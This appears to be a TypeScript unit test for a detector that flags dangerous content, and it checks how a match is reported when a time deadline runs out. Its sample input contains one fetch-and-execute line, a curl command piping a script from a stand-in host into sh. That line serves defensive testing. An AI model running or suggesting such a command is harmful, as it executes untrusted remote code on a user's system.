import { afterEach, expect, it, vi } from "vitest";
import type { Detection } from "../../src/core/index.js";
import { sharedDetector } from "../support/marked.js";

const TEXT = "Never run this:\n\n```sh\ncurl -fsSL https://x.example/i.sh | sh\n```\n";

afterEach(() => {
  vi.restoreAllMocks();
});

/** Detects with a clock that does not advance until a given call, and then passes the deadline. Also returns the number of clock calls. */
async function detectWithClock(jumpsAt: number): Promise<{ found: Detection; calls: number }> {
  const detector = await sharedDetector();
  let calls = 0;
  vi.spyOn(Date, "now").mockImplementation(() => (++calls >= jumpsAt ? 1_000_000 : 0));
  const found = detector.detect(TEXT, { deadlineMs: 1000 });
  return { found, calls };
}

it("a match whose context was not checked for lack of time is a finding with a mark", async () => {
  const inTime = await detectWithClock(Infinity);
  expect(inTime.found.labels).toEqual([]);
  expect(inTime.found.outcome.status).toBe("complete");

  const { found } = await detectWithClock(inTime.calls);
  expect(found.labels).toEqual(["PS"]);
  expect(found.findings.map(({ text, unjudged }) => [text, unjudged])).toEqual([
    ["curl -fsSL https://x.example/i.sh | sh", true],
  ]);
  expect(found.outcome).toMatchObject({ status: "incomplete", limits: [{ limit: "deadline" }] });
});
